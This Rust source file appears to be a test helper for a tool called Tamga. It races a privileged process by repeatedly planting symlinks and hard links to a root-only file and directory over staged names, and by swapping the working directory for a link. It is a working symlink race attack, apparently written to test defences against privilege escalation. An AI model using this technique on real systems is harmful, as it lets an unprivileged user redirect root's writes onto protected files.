//! A second account that races Tamga: in a directory of its own it plants links over every name that a change may stage or write,
//! and swaps the directory itself for a link, until it is killed.
//!
//! In: the directory, what the links lead to (a file that only root may touch, and a directory of root's), and the names to plant over.

#[cfg(unix)]
fn main() {
    use std::ffi::OsString;
    use std::os::unix::fs::symlink;
    use std::path::{Path, PathBuf};

    let mut args = std::env::args_os().skip(1);
    let mut next = || PathBuf::from(args.next().unwrap_or_default());
    let (directory, file, folder) = (next(), next(), next());
    let names: Vec<OsString> = args.collect();
    let aside = directory.with_extension("aside");
    let replace = |path: &Path, with: &Path| {
        // Over a file, and over what root staged there: both are the owner's of the directory to remove.
        let _ = std::fs::remove_file(path);
        let _ = symlink(with, path);
    };
    let mut round = 0_u32;
    loop {
        round = round.wrapping_add(1);
        for name in &names {
            let path = directory.join(name);
            match round % 5 {
                0 => replace(&path, &file),
                1 => {
                    // Only what was just staged is swapped, at the moment in which it appears.
                    if path.symlink_metadata().is_ok_and(|m| m.is_file()) {
                        replace(&path, &file);
                    }
                }
                2 => replace(&path, &folder),
                3 => {
                    let _ = std::fs::remove_file(&path);
                    let _ = std::fs::hard_link(&file, &path);
                }
                _ => drop(std::fs::remove_file(&path)),
            }
        }
        if round.is_multiple_of(7) && std::fs::rename(&directory, &aside).is_ok() {
            let _ = symlink(&folder, &directory);
            let _ = std::fs::remove_file(&directory);
            let _ = std::fs::rename(&aside, &directory);
        }
    }
}

#[cfg(not(unix))]
fn main() {}
